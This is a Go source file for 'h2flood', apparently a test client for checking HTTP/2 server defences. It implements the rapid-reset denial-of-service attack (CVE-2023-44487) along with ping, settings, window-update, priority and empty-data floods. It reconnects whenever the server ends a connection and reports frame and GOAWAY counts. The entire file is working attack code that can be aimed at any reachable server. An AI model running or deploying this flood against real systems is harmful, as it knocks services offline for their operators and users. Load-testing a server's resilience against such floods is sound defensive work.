// Command h2flood is a test client that attacks an HTTP/2 server with a rapid-reset flood
// (CVE-2023-44487): each of -c connections opens streams with HEADERS and cancels them at
// once with RST_STREAM, as fast as the socket takes them, reading and discarding whatever
// the server sends. When the server ends a connection (GOAWAY, reset, EOF) the attacker
// reconnects, so the flood lasts -d whatever the server's defence. Other floods are
// available with -kind: ping, settings, window-update, priority, empty-data.
//
// With -rate the attack is paced (frames or pairs per second over all connections), so
// that on a small machine the attacker does not simply take the CPU the server and the
// legitimate client need; without it, it sends as fast as the sockets accept.
//
// It reports, on one line starting with GALEFLOOD, the frames sent, the connections made,
// how many ended with GOAWAY and with which codes, and how many streams the server
// answered (HEADERS received) before it reset or cut them off.
//
//	h2flood -addr 127.0.0.1:8080 -c 4 -d 10s
package main

import (
	"bufio"
	"bytes"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

type stats struct {
	frames, conns, answered atomic.Int64
	mu                      sync.Mutex
	goaways                 map[string]int
	dialErrs                int
}

func main() {
	addr := flag.String("addr", "127.0.0.1:8080", "server host:port (HTTP/2 by prior knowledge)")
	conns := flag.Int("c", 4, "attacking connections")
	dur := flag.Duration("d", 10*time.Second, "how long to attack")
	kind := flag.String("kind", "rapid-reset", "flood: rapid-reset, ping, settings, window-update, priority, empty-data")
	path := flag.String("path", "/", "request path of the streams")
	batch := flag.Int("batch", 64, "frames (or HEADERS+RST_STREAM pairs) per write")
	rate := flag.Float64("rate", 0, "frames (or pairs) per second over all connections; 0: as fast as the sockets take them")
	flag.Parse()
	switch *kind {
	case "rapid-reset", "ping", "settings", "window-update", "priority", "empty-data":
	default:
		fmt.Fprintf(os.Stderr, "h2flood: unknown -kind %q\n", *kind)
		os.Exit(2)
	}
	st := &stats{goaways: map[string]int{}}
	deadline := time.Now().Add(*dur)
	var wg sync.WaitGroup
	for range *conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Now().Before(deadline) {
				if err := attack(*addr, *kind, *path, *batch, *rate/float64(*conns), deadline, st); err != nil {
					st.mu.Lock()
					st.dialErrs++
					st.mu.Unlock()
					time.Sleep(10 * time.Millisecond) // server refuses connections: do not spin
				}
			}
		}()
	}
	wg.Wait()
	codes := make([]string, 0, len(st.goaways))
	for k, v := range st.goaways {
		codes = append(codes, fmt.Sprintf("%s:%d", k, v))
	}
	sort.Strings(codes)
	fmt.Printf("GALEFLOOD kind=%s rate=%.0f frames=%d conns=%d answered=%d dial_errors=%d goaway=%s\n", *kind, *rate,
		st.frames.Load(), st.conns.Load(), st.answered.Load(), st.dialErrs, strings.Join(codes, ","))
}

// attack runs one connection until the server ends it or the deadline passes. It returns
// an error only when the connection could not be made.
func attack(addr, kind, path string, batch int, rate float64, deadline time.Time, st *stats) error {
	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	st.conns.Add(1)
	c.SetDeadline(deadline)
	done := make(chan struct{})
	go func() { // read and discard, noting GOAWAY and answered streams
		defer close(done)
		fr := http2.NewFramer(io.Discard, bufio.NewReaderSize(c, 64<<10))
		fr.SetMaxReadFrameSize(1 << 24)
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				var se http2.StreamError
				if errors.As(err, &se) {
					continue
				}
				c.Close() // the writer's next Write fails
				return
			}
			switch f := f.(type) {
			case *http2.GoAwayFrame:
				st.mu.Lock()
				st.goaways[f.ErrCode.String()]++
				st.mu.Unlock()
			case *http2.HeadersFrame:
				st.answered.Add(1)
			}
		}
	}()
	var blk bytes.Buffer
	enc := hpack.NewEncoder(&blk)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", addr}, {":path", path}} {
		enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	hdr := blk.Bytes()
	var out bytes.Buffer
	w := http2.NewFramer(&out, nil)
	out.WriteString(http2.ClientPreface)
	w.WriteSettings()
	w.WriteSettingsAck()
	if kind == "empty-data" {
		w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: hdr, EndHeaders: true})
	}
	id := uint32(1)
	if kind == "empty-data" {
		id = 3
	}
	var gap time.Duration
	if rate > 0 {
		gap = time.Duration(float64(batch) / rate * float64(time.Second))
	}
	next := time.Now()
	for {
		if gap > 0 {
			next = next.Add(gap)
			if d := time.Until(next); d > 0 {
				time.Sleep(d)
			}
		}
		for range batch {
			switch kind {
			case "rapid-reset":
				w.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hdr, EndStream: true, EndHeaders: true})
				w.WriteRSTStream(id, http2.ErrCodeCancel)
				id += 2
				if id > 1<<31-1 {
					return nil
				}
			case "ping":
				w.WritePing(false, [8]byte{})
			case "settings":
				w.WriteSettings()
			case "window-update":
				w.WriteWindowUpdate(0, 1)
			case "priority":
				w.WritePriority(id, http2.PriorityParam{Weight: 1})
				id += 2
			case "empty-data":
				w.WriteData(1, false, nil)
			}
		}
		if _, err := c.Write(out.Bytes()); err != nil {
			break
		}
		st.frames.Add(int64(batch))
		out.Reset()
	}
	<-done
	return nil
}
